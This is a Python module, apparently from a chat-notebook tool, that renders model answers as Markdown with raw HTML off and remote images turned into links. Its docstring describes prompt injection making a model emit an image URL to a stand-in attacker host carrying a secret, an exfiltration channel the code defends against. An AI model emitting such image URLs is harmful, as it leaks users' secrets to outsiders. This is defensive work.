"""Model answers as Markdown, rendered safely: raw HTML off, and no request leaves the page on display.

Raw HTML is disabled (JupyterLab does not sanitize live Markdown output), so `<script>` arrives as text.
An image is fetched by the browser as soon as it is shown, with no click: `![](https://attacker/c?d=<secret>)`
in an answer is an exfiltration channel for prompt injection. So a remote image is shown as a link (the user
decides whether to follow it); only an inline `data:image/png|jpeg|gif|webp` image renders, since it fetches
nothing.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from typing import Any

__all__ = ["markdown_html", "math_html"]

_INLINE_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);", re.IGNORECASE)
_renderer: Any = None


def _image(renderer: Any, tokens: Sequence[Any], index: int, options: Any, env: Any) -> str:
    token = tokens[index]
    src = str(token.attrGet("src") or "")
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    if _INLINE_IMAGE.match(src):
        return f'<img src="{html.escape(src, quote=True)}" alt="{html.escape(alt, quote=True)}">'
    label = f"image: {alt}" if alt else f"image: {src}"
    return (f'<a href="{html.escape(src, quote=True)}" rel="noopener noreferrer nofollow" target="_blank" '
            f'title="a remote image, not loaded">{html.escape(label)}</a>')


def markdown_html(text: str) -> str:
    """Markdown to HTML with raw HTML disabled and remote images shown as links."""
    global _renderer
    if _renderer is None:
        from markdown_it import MarkdownIt

        # breaks: chat models end lines where they mean a line break
        md = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable(["table", "strikethrough"])
        md.add_render_rule("image", _image)
        _renderer = md
    return str(_renderer.render(text))


# $$...$$, \[...\], \(...\) and $...$ (not "$5 and $10": no space just inside an inline pair)
_MATH = re.compile(r"\$\$.+?\$\$|\\\[.+?\\\]|\\\(.+?\\\)|\$(?=\S)[^$\n]*?(?<=\S)\$(?!\d)", re.DOTALL)


def math_html(text: str) -> str:
    """-f math: Markdown whose maths reaches MathJax untouched (Markdown would read `a_1 b_1` as emphasis)."""
    kept: list[str] = []

    def hold(match: re.Match[str]) -> str:
        kept.append(match.group(0))
        return f"WBMATH{len(kept) - 1}X"

    rendered = markdown_html(_MATH.sub(hold, text))
    return re.sub(r"WBMATH(\d+)X", lambda m: html.escape(kept[int(m.group(1))]), rendered)
